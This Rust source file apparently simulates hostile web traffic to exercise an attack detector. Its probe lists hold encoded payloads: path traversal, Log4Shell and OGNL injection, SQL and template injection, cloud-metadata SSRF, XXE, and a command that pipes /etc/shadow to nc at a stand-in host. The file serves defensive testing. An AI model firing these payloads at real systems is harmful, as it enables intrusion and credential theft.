//! Those who try vulnerabilities or other attacks from a list, and somebody who tries one.

use std::time::Duration;

use shield::timeline::Call;
use traffic::Timestamp;

use super::actor::{Actor, Asked, Client};
use super::lists::{ListReader, Pace};
use crate::dice::Dice;

/// Requests that exploit what was published, each another vulnerability.
const PROBES: [&str; 4] = [
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/setup/setupadministrator.action",
    "/%24%7B%28%23a%3D%40org.apache%40x%29%7D/",
    "/api/products?page=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
];

/// Searches, each of which a rule of its own takes for an attack, and none for one on a published
/// vulnerability: of these two are enough.
const ATTACKS: [&str; 12] = [
    "/api/products?q=1%27%20UNION%20SELECT%20name%2C%20secret%20FROM%20users--%20",
    "/api/products?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
    "/api/products?q=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/api/products?q=%3B%20cat%20%2Fetc%2Fshadow%20%7C%20nc%20203.0.113.5%2099",
    "/api/products?q=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
    "/api/products?q=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F",
    "/api/products?q=*)(uid=*))(%7C(uid=*",
    "/api/products?q=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
    "/api/products?q=O%3A8%3A%22Evil%5CJob%22%3A1%3A%7Bs%3A3%3A%22cmd%22%3Bs%3A2%3A%22id%22%3B%7D",
    "/api/products?q=%27%20or%20count(%2Fuser)%3D1%20or%20%27a%27%3D%27b",
    "/api/products?q=1%3B%20WAITFOR%20DELAY%20%270%3A0%3A9%27--",
    "/api/products?q=%3C%21DOCTYPE%20a%20%5B%3C%21ENTITY%20b%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E",
];

/// Tries the published vulnerabilities one after the other.
#[must_use]
pub fn prober(client: Client, pace: Pace, mut dice: Dice) -> ListReader {
    ListReader::new("prober", &PROBES, client, pace).in_order(dice.below(4), 1)
}

/// Searches with one attack after the other: a tool, or a course that learns about them.
#[must_use]
pub const fn searcher(kind: &'static str, client: Client, pace: Pace) -> ListReader {
    ListReader::new(kind, &ATTACKS, client, pace)
}

/// Tries the link of an advisory, to see whether it concerns this site, and reads on.
#[derive(Debug)]
pub struct Curious {
    client: Client,
    from: Timestamp,
    pages_left: u32,
}

impl Curious {
    /// One link, and so many pages after it.
    #[must_use]
    pub const fn new(client: Client, from: Timestamp, pages: u32) -> Self {
        Self { client, from, pages_left: pages }
    }
}

impl Actor for Curious {
    fn kind(&self) -> &'static str {
        "curious"
    }

    fn begin(&mut self) -> Vec<Asked> {
        vec![Asked { at: self.from, call: self.client.get("/setup/setupadministrator.action") }]
    }

    fn answered(&mut self, _: &Call, _: bool, _: u16, at: Timestamp) -> Vec<Asked> {
        if self.pages_left == 0 {
            return Vec::new();
        }
        self.pages_left -= 1;
        let at = at.after(Duration::from_secs(20));
        vec![Asked { at, call: self.client.get("/api/products/7") }]
    }
}
